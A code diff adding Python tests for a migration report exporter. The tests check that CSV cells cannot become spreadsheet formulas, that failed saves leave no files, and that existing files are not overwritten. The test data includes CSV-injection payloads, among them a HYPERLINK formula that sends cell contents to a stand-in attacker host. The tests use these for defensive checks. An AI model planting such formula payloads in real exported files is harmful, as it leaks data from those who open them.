@@ -112,3 +112,121 @@ def test_save_picks_the_format_from_the_suffix_and_never_overwrites(tmp_path):
     with pytest.raises(ValueError, match=r"\.json or \.csv"):
         format_for(tmp_path / "out.txt")
     assert not (tmp_path / "out.txt").exists()
+
+
+# --- saving: all or nothing, and no formulas (issue #12 item 14) ---------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+    "Plain name",
+    "Mid=dle",
+]
+
+
+def hostile_report() -> MigrationReport:
+    report = MigrationReport("src", "dst")
+    report.add_result(
+        MigrationResult(
+            migrated=tuple(MigratedFlow(name, "1", "2") for name in HOSTILE_NAMES),
+            failed=(FailedMigration("Failed one", "-100", "@once more: =1+1"),),
+        )
+    )
+    return report
+
+
+def test_csv_cells_cannot_become_formulas(tmp_path):
+    target = tmp_path / "report.csv"
+    save_report(hostile_report(), target)
+    with target.open(newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [row["source_name"] for row in rows[: len(HOSTILE_NAMES)]] == [
+        "'" + name if name[0] in "=+-@\t\r" else name for name in HOSTILE_NAMES
+    ]
+    assert (rows[-1]["error_code"], rows[-1]["error_message"]) == ("'-100", "'@once more: =1+1")
+
+
+def test_a_lone_surrogate_in_a_name_does_not_stop_the_save(tmp_path):
+    report = MigrationReport("src", "dst")
+    report.add_result(MigrationResult(migrated=(MigratedFlow("A\ud800B", "1", "2"),), failed=()))
+    save_report(report, tmp_path / "r.json")
+    save_report(report, tmp_path / "r.csv")
+    document = json.loads((tmp_path / "r.json").read_bytes())
+    assert document["migrated"][0]["source_name"] == "A\ud800B"  # its JSON escape reads back
+    assert "A\ufffdB" in (tmp_path / "r.csv").read_text(encoding="utf-8")
+
+
+FULL_DISK = """
+import resource, signal, sys
+from pathlib import Path
+from tests.migration.test_migration_report import hostile_report
+from flowtui.migration import save_report
+report = hostile_report()
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+resource.setrlimit(resource.RLIMIT_FSIZE, (64, 64))  # writes past 64 bytes fail: EFBIG
+try:
+    save_report(report, Path(sys.argv[1]))
+except OSError as error:
+    print(error.strerror)
+"""
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".json"])
+def test_a_save_that_fails_leaves_nothing_and_the_name_stays_free(tmp_path, suffix):
+    """A full disk left a 0-byte file that then blocked saving under that name."""
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    target = tmp_path / f"report{suffix}"
+    root = Path(__file__).resolve().parents[2]
+    result = subprocess.run(
+        [sys.executable, "-c", FULL_DISK, str(target)],
+        capture_output=True,
+        text=True,
+        cwd=root,
+        timeout=60,
+    )
+    assert result.stdout.strip() == "File too large", result.stderr
+    assert list(tmp_path.iterdir()) == []  # neither the report nor a temporary file
+    save_report(hostile_report(), target)
+    assert target.stat().st_size > 64
+
+
+def test_a_file_that_appears_meanwhile_is_not_overwritten(tmp_path, monkeypatch):
+    from flowtui.migration import export
+
+    target = tmp_path / "out.json"
+    real_write = export._write_synced
+
+    def write_then_someone_else_saves(path, data):
+        real_write(path, data)
+        target.write_text("theirs")
+
+    monkeypatch.setattr(export, "_write_synced", write_then_someone_else_saves)
+    with pytest.raises(FileExistsError):
+        save_report(report_with_two_batches(), target)
+    assert target.read_text() == "theirs"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]
+
+
+def test_without_hard_links_the_name_is_claimed_exclusively(tmp_path, monkeypatch):
+    import errno
+    import os
+
+    def no_links(source, target):
+        raise OSError(errno.EPERM, "Operation not permitted")
+
+    monkeypatch.setattr(os, "link", no_links)
+    target = tmp_path / "out.csv"
+    save_report(report_with_two_batches(), target)
+    assert target.read_text().startswith("outcome,source_name,")
+    with pytest.raises(FileExistsError):
+        save_report(report_with_two_batches(), target)
+    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
